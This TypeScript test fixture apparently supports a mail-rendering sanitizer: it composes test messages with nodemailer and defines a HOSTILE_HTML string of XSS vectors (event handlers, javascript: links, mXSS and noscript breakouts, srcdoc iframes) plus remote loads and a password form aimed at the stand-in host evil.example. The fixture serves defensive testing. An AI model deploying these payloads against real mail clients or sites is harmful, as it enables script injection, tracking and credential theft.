import MailComposer from 'nodemailer/lib/mail-composer';

/** A message as nodemailer composes it. */
export type Letter = NonNullable<ConstructorParameters<typeof MailComposer>[0]>;

/** The bytes of a message; what is not said is of no matter to the test. */
export function letter(message: Partial<Letter>): Promise<Buffer> {
  return new MailComposer({
    from: 'Clara Vidal <clara@else.example>',
    to: 'ana@test.example',
    subject: 'A word',
    text: 'Good morning.',
    ...message,
  })
    .compile()
    .build();
}

/** A red square of 8 × 8 pixels. */
export const RED_PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAgAAAAICAIAAABLbSncAAAAEUlEQVR4nGP4z8CAFWEXHbQSACj/P8Fu7N9hAAAAAElFTkSuQmCC',
  'base64',
);

/** Everything a letter could try in order to run, to call out or to leave its place. */
export const HOSTILE_HTML = `<!doctype html><html><head>
<title>x</title>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<link rel="stylesheet" href="https://evil.example/sheet.css">
<link rel="prefetch" href="https://evil.example/prefetch">
<script>parent.wasRun='script'</script>
<script src="https://evil.example/script.js"></script>
<style>@import url(https://evil.example/import.css);
@font-face { font-family: evil; src: url(https://evil.example/font.woff2) }
body { background: url(https://evil.example/background.png) }
p::after { content: url("https://evil.example/content.png") }
.cover { position: fixed; inset: 0; z-index: 99999; background: red }</style>
</head><body onload="parent.wasRun='onload'" background="https://evil.example/body.png">
<p id="visible">The visible words.</p>
<img src="x" onerror="parent.wasRun='onerror'">
<img src="https://evil.example/pixel.gif" width="1" height="1" alt="">
<img srcset="https://evil.example/set.png 2x" alt="">
<img src="//evil.example/schemeless.png" alt="">
<img src="/api/session" alt="">
<picture><source srcset="https://evil.example/source.png"><img alt=""></picture>
<svg onload="parent.wasRun='svg'"><script>parent.wasRun='svg script'</script><image href="https://evil.example/svg.png"/><use href="https://evil.example/use.svg#a"/></svg>
<math><mtext><table><mglyph><style><img src=x onerror="parent.wasRun='mxss'"></style></mglyph></table></mtext></math>
<iframe src="https://evil.example/frame"></iframe>
<iframe srcdoc="<script>top.wasRun='srcdoc'</script>"></iframe>
<object data="https://evil.example/object"></object><embed src="https://evil.example/embed">
<video src="https://evil.example/video" poster="https://evil.example/poster.png" autoplay></video>
<audio src="https://evil.example/audio" autoplay></audio>
<form action="https://evil.example/form"><input name="password" autofocus onfocus="parent.wasRun='focus'"><button>Continue</button></form>
<a id="script-link" href="javascript:parent.wasRun='link'">Look</a>
<a href="https://evil.example/click" ping="https://evil.example/ping">Click</a>
<table background="https://evil.example/table.png"><tr><td background="https://evil.example/cell.png">cell</td></tr></table>
<div style="background-image:url(https://evil.example/inline.png)">styled</div>
<div style="background-image:u\\72l(https://evil.example/escaped.png)">escaped</div>
<div class="cover">cover</div>
<details open ontoggle="parent.wasRun='toggle'"><summary>More</summary>inside</details>
<input type="image" src="https://evil.example/input.png">
<marquee onstart="parent.wasRun='marquee'">m</marquee>
<noscript><p title="</noscript><img src=x onerror=parent.wasRun='noscript'>"></noscript>
</body></html>`;
